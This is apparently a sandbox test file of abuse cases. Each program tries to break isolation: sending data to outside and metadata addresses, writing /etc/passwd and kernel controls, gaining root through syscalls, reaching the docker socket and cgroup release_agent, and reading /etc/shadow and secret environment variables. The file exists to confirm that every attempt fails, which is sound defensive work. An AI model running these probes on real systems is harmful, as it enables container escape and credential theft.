"""Programs that reach for the network, the host, its kernel, other trials and the corpus.

Each tries everything on its list and raises ``BREACH`` with what worked; if nothing did, it trains
like an honest one.
"""

from nightlab.sandbox.abuse.case import Case, ends
from nightlab.vocabulary import Ending

CASES = (
    Case(
        name="exfiltration",
        number="8",
        expected=ends(Ending.FINISHED),
        program="""
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(1)
        s.connect(address)
        s.send(b"secret")
tried(
    tcp=lambda: connect(socket.AF_INET, ("192.0.2.1", 80)),
    loopback=lambda: connect(socket.AF_INET, ("127.0.0.1", 22), socket.SOCK_DGRAM),
    udp=lambda: connect(socket.AF_INET, ("192.0.2.1", 53), socket.SOCK_DGRAM),
    ipv6=lambda: connect(socket.AF_INET6, ("2001:db8::1", 80)),
    metadata=lambda: connect(socket.AF_INET, ("169.254.169.254", 80)),
    dns=lambda: socket.getaddrinfo("example.com", 80),
    hypervisor=lambda: socket.socket(40, socket.SOCK_STREAM),
    crypto=lambda: socket.socket(38, socket.SOCK_SEQPACKET),
    packets=lambda: socket.socket(17, socket.SOCK_RAW),
    netlink=lambda: socket.socket(16, socket.SOCK_RAW),
)
""",
    ),
    Case(
        name="network interfaces",
        number="8",
        expected=ends(Ending.FINISHED),
        isolating=True,
        program="""
lines = pathlib.Path("/proc/net/dev").read_text().splitlines()[2:]
names = [line.split(":")[0].strip() for line in lines]
if names not in (["lo"], []):
    raise RuntimeError(f"BREACH: {names}")
""",
    ),
    Case(
        name="writes outside its folders",
        number="9",
        expected=ends(Ending.FINISHED),
        isolating=True,
        program="""
def write(path):
    with open(path, "w") as file:
        file.write("x")
import torch.nn
from nightlab.sandbox.guest import train
places = ["/x", "/etc/x", "/etc/passwd", "/usr/x", "/opt/x", "/opt/site/x.py", "/data/x", "/dev/x",
          torch.__file__, torch.nn.__file__, train.__file__, "/proc/sys/kernel/core_pattern",
          "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/sys/x", "/root/x", "/home/x",
          "/proc/1/oom_score_adj", "/sys/fs/cgroup/x"]
tried(**{place: (lambda p=place: write(p)) for place in places})
""",
    ),
    Case(
        name="system calls of an administrator",
        number="10",
        expected=ends(Ending.FINISHED),
        isolating=True,
        program="""
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)
def become_root():
    os.setuid(0)
    assert os.getuid() == 0 and os.access("/proc/sysrq-trigger", os.W_OK)
attempts = dict(
    mount=lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, 0),
    unshare_user=lambda: call("unshare", 0x10000000),
    unshare_net=lambda: call("unshare", 0x40000000),
    ptrace=lambda: call("ptrace", 16, 1, 0, 0),
    chroot=lambda: os.chroot("/tmp"),
    setuid=become_root,
    sethostname=lambda: socket.sethostname("owned"),
    kcore=lambda: open("/proc/kcore", "rb").read(16) or fail(-1),
    memory=lambda: open("/dev/mem", "rb").read(1),
    reboot=lambda: call("reboot", 0xCAD0000),
)
if os.uname().machine == "x86_64":
    attempts |= dict(
        bpf=lambda: fail(321, 0, 0, 0),
        keyctl=lambda: fail(250, 0, -3, 1),
        add_key=lambda: fail(248, b"user", b"x", b"y", 1, -3),
        io_uring=lambda: fail(425, 1, ctypes.create_string_buffer(120)),
        userfaultfd=lambda: fail(323, 0),
        perf=lambda: fail(298, ctypes.create_string_buffer(128), 0, -1, -1, 0),
        clone_user=lambda: fail(56, 0x10000000 | 17, 0, 0, 0, 0),
    )
tried(**attempts)
status = pathlib.Path("/proc/self/status").read_text()
for line in ("CapEff:\\t0000000000000000", "CapPrm:\\t0000000000000000", "NoNewPrivs:\\t1",
             "Seccomp:\\t2"):
    if line not in status:
        raise RuntimeError(f"BREACH: no {line!r}")
if os.getuid() == 0:
    raise RuntimeError("BREACH: runs as root")
""",
    ),
    Case(
        name="engine socket, devices, control groups",
        number="11",
        expected=ends(Ending.FINISHED),
        isolating=True,
        program="""
import stat
def connect(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(path)
def write(path):
    with open(path, "w") as file:
        file.write("1")
found = {str(p): (lambda p=p: write(p)) for name in ("release_agent", "cgroup.procs", "memory.max",
         "memory.limit_in_bytes") for p in pathlib.Path("/sys/fs/cgroup").rglob(name)}
devices = [p for p in pathlib.Path("/dev").rglob("*") if p.exists()]
blocks = [p for p in devices if stat.S_ISBLK(p.stat().st_mode)]
tried(
    **found,
    **{str(p): (lambda p=p: open(p, "rb").read(1)) for p in blocks},
    docker=lambda: connect("/var/run/docker.sock"),
    containerd=lambda: connect("/run/containerd/containerd.sock"),
    block=lambda: os.mknod(OUT / "disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)),
    memory=lambda: os.mknod(OUT / "mem", 0o600 | stat.S_IFCHR, os.makedev(1, 1)),
)
""",
    ),
    Case(
        name="reads the host, other trials and its environment",
        number="21",
        expected=ends(Ending.FINISHED),
        isolating=True,
        program="""
def read(path):
    (os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)) or fail(-1)
places = ("/etc/shadow", "/etc/ssh", "/root", "/home", "/var/lib/docker", "/mnt", "/run/secrets")
tried(**{place: (lambda p=place: read(p)) for place in places})
loot = [name for name in os.environ if any(w in name for w in ("KEY", "TOKEN", "SECRET", "CANARY"))]
if loot:
    raise RuntimeError(f"BREACH: {loot}")
seen = [p for p in os.listdir("/proc") if p.isdigit()]
if len(seen) > 6:
    raise RuntimeError(f"BREACH: {len(seen)} processes in sight")
""",
    ),
    Case(
        name="reads the corpus packages",
        number="+",
        expected=ends(Ending.FINISHED),
        isolating=True,
        program="""
import importlib
names = ("sqlalchemy", "openai", "langgraph", "pip", "alembic", "docker", "libcst",
         "langchain_core", "ensurepip", "nightlab.evals", "nightlab.agents")
def load(name):
    assert importlib.import_module(name).__file__ is not None  # an empty folder imports as well
tried(**{name: (lambda n=name: load(n)) for name in names})
tops = {name.split(".")[0] for name in names} - {"nightlab"}
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        folders.clear()
        continue
    bad = {f for f in folders if f in tops and os.listdir(os.path.join(folder, f))}
    bad |= {f for f in files if f.endswith(".whl")}
    if bad and "/_vendor" not in folder:
        raise RuntimeError(f"BREACH: {bad} in {folder}")
""",
    ),
)
